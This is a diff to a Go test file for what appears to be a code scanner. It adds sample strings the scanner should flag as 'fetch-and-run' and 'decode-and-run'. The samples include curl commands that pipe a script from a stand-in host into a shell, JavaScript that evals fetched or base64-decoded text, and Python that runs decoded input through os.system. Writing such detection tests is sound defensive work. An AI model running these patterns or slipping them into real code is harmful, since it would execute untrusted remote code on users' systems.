@@ -5,6 +5,7 @@ import "testing"
 func TestFetchAndRun(t *testing.T) {
 	check(t, []hits{
 		{"tools/build.sh", "fetch-and-run", []string{
+			"curl -s https://a.example/i | \"$SHELL\"\n", "curl -s https://a.example/i | $0\n",
 			"curl -s https://a.example/i.sh | sh\n",
 			"curl -fsSL https://a.example/i.sh | sudo -E bash -\n",
 			"wget -qO- http://a.example/i | bash -s -- --yes\n",
@@ -92,6 +93,9 @@ func TestDecodeAndRun(t *testing.T) {
 			"x=$(echo aGVsbG8= | base64 -d)\neval \"$x\"\n",
 		}},
 		{"src/a.js", "decode-and-run", []string{
+			"eval?.(atob('aGVsbG8='))\n", "fetch(u).then(r => r.text()).then(eval)\n",
+			"axios.get(u).then(r => { new Function('require', r.data)(require) })\n",
+			"const r = await axios.get(u);\nnew Function('require', r.data)(require);\n",
 			"eval(atob('aGVsbG8='));\n",
 			"eval(Buffer.from('aGVsbG8=', 'base64').toString());\n",
 			"(0, eval)(atob('aGVsbG8='));\n",
@@ -112,6 +116,7 @@ func TestDecodeAndRun(t *testing.T) {
 			"globalThis['ev' + 'al'](atob('aGVsbG8='));\n",
 		}},
 		{"pkg/a.py", "decode-and-run", []string{
+			"__import__('os').system(__import__('base64').b64decode('aGVsbG8='))\n",
 			"exec(base64.b64decode('aGVsbG8='))\n",
 			"exec(zlib.decompress(base64.b64decode('aGVsbG8=')))\n",
 			"exec(bytes.fromhex('68656c6c6f'))\n",
